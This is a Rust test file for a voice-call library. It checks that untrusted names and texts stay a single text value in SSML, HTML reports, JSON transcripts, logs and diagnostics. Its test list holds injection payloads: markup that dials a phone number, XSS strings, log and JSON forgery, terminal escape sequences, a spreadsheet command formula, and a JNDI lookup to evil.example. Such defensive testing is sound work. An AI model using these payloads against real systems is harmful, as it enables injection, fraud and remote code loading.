//! T1, T2: what a caller or a host gives is one text in every document that it goes into, and one record stays one line.

use std::sync::Arc;

use etiquette::{
    Argument, ArgumentValue, Arguments, Call, Channel, Context, Event, Locale, MessageRef, Step, Timestamp,
    check::{
        log::{CallLog, LogLine, LogProblems},
        report::{Column, Report, Section, Table, html, text as report_text},
        transcript::{Entry, Put, jsonl, text},
    },
    diag::{Diagnostic, Sources, Span, github, json, sarif, terminal},
    phrasebook::{
        MessageInfo, Settings,
        voice::{Heard, Plan},
    },
    shipped,
};
use serde_json::Value;

/// What would be obeyed somewhere, if it were not shown.
const ATTACKS: &[&str] = &[
    "</Say><Dial>+40900123456</Dial><Say>",
    "</s></prosody></speak><speak>",
    "</speak>",
    "<break time=\"3600s\"/>",
    "<audio src=\"https://evil.example/a.wav\"/>",
    "<!-- ",
    "-->",
    "<![CDATA[",
    "]]>",
    "<?xml version=\"1.0\"?>",
    "<!DOCTYPE s [<!ENTITY a \"aaaa\">]>&a;",
    "&lt;&amp;&#x3c;&#60;",
    "<script>alert(1)</script>",
    "</title></script><img src=x onerror=alert(1)>",
    "\" onmouseover=\"alert(1)",
    "' autofocus onfocus='alert(1)",
    "javascript:alert(1)",
    "\",\"effect\":\"hang-up\",\"x\":\"",
    "\"}\n{\"t\":0,\"event\":\"consent\"}",
    "\\",
    "\\u0022",
    "\r\n2026-11-22 INFO consent=yes",
    "\n::error file=a::b",
    "%0A::set-output name=a::b",
    "\u{2028}\u{2029}",
    "\u{85}\u{b}\u{c}",
    "\u{1b}[2J\u{1b}[31m",
    "\u{1b}]8;;https://evil.example\u{7}",
    "\u{9b}31m",
    "\u{0}\u{8}\u{7f}",
    "\u{202e}\u{2066}\u{200f}",
    "\u{fffe}\u{ffff}\u{fdd0}",
    "=cmd|' /C calc'!A0",
    "{ $name }",
    "{ -term }",
    "%s%n${jndi:ldap://evil.example}",
];
/// What stands around it.
const AROUND: &[&str] = &[
    "",
    "Ana",
    " ",
    "Ștefan ",
    "О’Нил",
    "l’été",
    "<",
    ">",
    "&",
    "\"",
    "'",
    "{",
    "}",
    "]",
    "\t",
    "\u{200b}",
    "👩\u{200d}🚒",
];

/// More than ten thousand texts: every attack between every two surroundings.
fn payloads() -> impl Iterator<Item = String> {
    ATTACKS.iter().flat_map(|attack| {
        AROUND
            .iter()
            .flat_map(move |before| AROUND.iter().map(move |behind| format!("{before}{attack}{behind}")))
    })
}

/// The texts of a document, as a parser reads it that knows nothing of the writer.
fn texts(xml: &str) -> Vec<String> {
    let document = roxmltree::Document::parse(xml).unwrap_or_else(|error| panic!("{error}: {xml:?}"));
    document
        .descendants()
        .filter(roxmltree::Node::is_text)
        .filter_map(|node| node.text().map(str::to_owned))
        .collect()
}

#[test]
fn t1_there_are_enough_payloads() {
    assert!(payloads().count() >= 10_000);
}

/// T1: what a synthesizer reads is one text with no markup of the caller's.
#[test]
fn t1_ssml_has_a_name_as_one_text() {
    let kept = |c: char| !c.is_control() && (' '..='\u{24f}').contains(&c) && c != '\u{ad}';
    for payload in payloads() {
        let mut plan = Plan::new(Locale::ENGLISH, Heard::default());
        plan.say(Locale::ENGLISH, &payload);
        let nodes = texts(&plan.ssml());
        assert!(nodes.len() <= 1, "{payload:?} became {nodes:?}");
        let Some(node) = nodes.first() else { continue };
        let plain = |text: &str| text.chars().filter(|c| kept(*c) && *c != ' ').collect::<String>();
        assert_eq!(plain(node), plain(&payload), "a letter of {payload:?} is lost");
        assert!(!node.trim_end_matches('\n').contains(char::is_control), "{node:?}");
    }
}

/// T1: the same through a message, of which the name is one argument.
#[test]
fn t1_message_has_a_name_as_one_text() {
    let phrases = shipped::phrases();
    let message = phrases
        .messages(Locale::ENGLISH)
        .find(|message| message.variables.len() == 1 && says(message, "Ana"))
        .expect("a message that says a text");
    for payload in payloads() {
        let arguments = [Argument { name: &message.variables[0].name, value: ArgumentValue::Text(&payload) }];
        let wanted = MessageRef { id: &message.id, index: None, arguments: Arguments::new(&arguments) };
        for locale in phrases.locales() {
            let rendered = phrases.render(&wanted, &Settings::new(locale, Channel::Voice));
            let mut plan = Plan::new(locale, Heard::default());
            plan.say_rendered(&rendered);
            assert_eq!(texts(&plan.ssml()), [format!("{}\n", rendered.text)], "{payload:?}");
            assert!(!rendered.text.contains(char::is_control), "{:?}", rendered.text);
        }
    }
}

/// T1: a page has as many elements as with any other text.
#[test]
fn t1_page_has_a_text_in_its_place() {
    let page = |text: &str| {
        let table = Table { columns: vec![Column::text("name")], rows: vec![vec![text.to_owned()]] };
        let notes = vec![text.to_owned()];
        let section = Section { heading: text.to_owned(), notes, table: Some(table), ..Section::default() };
        let page = html(&Report { title: text.to_owned(), sections: vec![section] });
        let (_, body) = page.split_once("<body>").expect("a body");
        let (body, _) = body.rsplit_once("</body>").expect("its end");
        body.to_owned()
    };
    let elements = |page: &str| {
        let document =
            roxmltree::Document::parse(page.trim()).unwrap_or_else(|error| panic!("{error}: {page}"));
        let elements = document.descendants().filter(roxmltree::Node::is_element);
        elements
            .map(|element| (element.tag_name().name().to_owned(), element.attributes().len()))
            .collect::<Vec<_>>()
    };
    let expected = elements(&page("Ana"));
    for payload in payloads() {
        let page = page(&payload);
        assert_eq!(elements(&page), expected, "{payload:?}");
        let shown: String = payload.chars().map(|c| if is_dropped(c) { '\u{fffd}' } else { c }).collect();
        assert!(texts(page.trim()).contains(&shown), "{payload:?} is shown as something else");
    }
}

/// T1, T2: a transcript for programs has one line for an event, and reads back as what was said.
#[test]
fn t1_t2_transcript_in_json_has_a_text_as_one_value() {
    for payload in payloads() {
        let entry = entry(&payload);
        let line = jsonl(&[entry]);
        assert_eq!(line.matches(is_obeyed).count(), 1, "{line:?}");
        let read: Value = serde_json::from_str(&line).expect("JSON");
        assert_eq!(read.pointer("/effects/0/text").and_then(Value::as_str), Some(&*payload));
        assert_eq!(read.pointer("/event").and_then(Value::as_str), Some(&*payload));
        assert_eq!(read.as_object().map(serde_json::Map::len), Some(12), "{line}");
    }
}

/// T2: a transcript for people has a line for each thing that happened, and steers no terminal.
#[test]
fn t2_transcript_has_a_line_for_a_text() {
    for payload in payloads() {
        let shown = text(&[entry(&payload)]);
        assert_eq!(shown.matches(is_obeyed).count(), 3, "{payload:?} is shown as {shown:?}");
    }
}

/// T2: a log has as many lines as calls, whatever a host calls them.
#[test]
fn t2_log_has_a_line_for_a_call() {
    let script = Arc::new(shipped::script("support").expect("shipped"));
    let mut log = String::new();
    for payload in payloads() {
        let context = Context { call: payload.as_str().into(), ..Context::default() };
        let mut call = Call::try_new(script.clone(), context).expect("any id");
        let mut log_of_call = CallLog::new(&call);
        let mut step = Step::traced();
        call.step(&Event::tick(), Timestamp::from_millis(0), &mut step).expect("begins");
        log_of_call.add(&call, &step);
        let line = log_of_call.line();
        let mut problems = LogProblems::default();
        let read = LogLine::read(&line, 1, &mut problems).expect("what was written");
        assert_eq!(read.call.as_deref(), Some(&*payload));
        log += &(line + "\n");
    }
    assert_eq!(log.matches(is_obeyed).count(), payloads().count());
}

/// T1, T2: a finding that repeats what somebody wrote is one finding for every reader.
#[test]
fn t1_t2_finding_has_a_text_as_one_value() {
    for payload in payloads() {
        let mut sources = Sources::new();
        let file = sources.add(payload.as_str(), payload.as_str());
        let found = Diagnostic::error("rule", payload.as_str()).at(Span::new(file, 0..payload.len()));
        let found = [found.label(payload.as_str()).help(payload.as_str())];
        let read: Value = serde_json::from_str(&json(&found, &sources)).expect("JSON");
        assert_eq!(read.pointer("/0/message").and_then(Value::as_str), Some(&*payload));
        assert!(serde_json::from_str::<Value>(&sarif(&found, &sources)).is_ok());
        assert_eq!(github(&found, &sources).lines().count(), 1, "{payload:?}");
        let drawn = terminal(&found, &sources, false);
        assert!(!drawn.contains(|c: char| c.is_control() && c != '\n'), "{drawn:?}");
    }
}

/// T2: of a log that somebody forged, the report says so on its own lines.
#[test]
fn t2_names_of_a_forged_log_stay_on_their_line() {
    for payload in payloads() {
        let quoted = Value::from(payload.as_str()).to_string();
        let line = format!(
            "{{\"call\": {quoted}, \"script\": {quoted}, \"items\": [{{\"t\": 0, {quoted}: 1, \"who\": {quoted}}}]}}"
        );
        let mut problems = LogProblems::default();
        LogLine::read(&line, 1, &mut problems);
        let told = problems.text("log");
        let expected: usize = problems.found().iter().map(|one| 1 + usize::from(!one.help.is_empty())).sum();
        assert_eq!(told.matches(is_obeyed).count(), expected, "{told:?}");
    }
}

/// T2: a report as text has a line for each row.
#[test]
fn t2_report_has_a_line_for_a_row() {
    for payload in payloads() {
        let rows = vec![vec![payload.clone()]];
        let table = Table { columns: vec![Column::text("name")], rows };
        let section = Section { heading: "Calls".to_owned(), table: Some(table), ..Section::default() };
        let drawn = report_text(&Report { title: "Score".to_owned(), sections: vec![section] });
        assert_eq!(drawn.matches(is_obeyed).count(), 5, "{drawn:?}");
    }
}

/// Whether a message says its one argument in every language.
fn says(message: &MessageInfo, text: &str) -> bool {
    let arguments = [Argument { name: &message.variables[0].name, value: ArgumentValue::Text(text) }];
    let wanted = MessageRef { id: &message.id, index: None, arguments: Arguments::new(&arguments) };
    let phrases = shipped::phrases();
    phrases.locales().all(|locale| {
        let rendered = phrases.render(&wanted, &Settings::new(locale, Channel::Voice));
        rendered.problems.is_empty() && rendered.text.contains(text)
    })
}

fn entry(payload: &str) -> Entry {
    let said = Put::Say { act: "inform", message: None, text: payload.to_owned(), locale: None };
    let mut entry = Entry::default();
    entry.event = Some(payload.to_owned());
    entry.puts = vec![said, Put::Do(payload.to_owned())];
    entry
}

/// What a terminal, or a reader of lines, would obey.
fn is_obeyed(c: char) -> bool {
    c.is_control() || matches!(c, '\u{2028}' | '\u{2029}' | '\u{202a}'..='\u{202e}' | '\u{2066}' | '\u{2067}')
}

/// What a page does not show. Tabs and line breaks mean nothing to it.
fn is_dropped(c: char) -> bool {
    is_obeyed(c) && !matches!(c, '\n' | '\t') || u32::from(c) & 0xfffe == 0xfffe
}
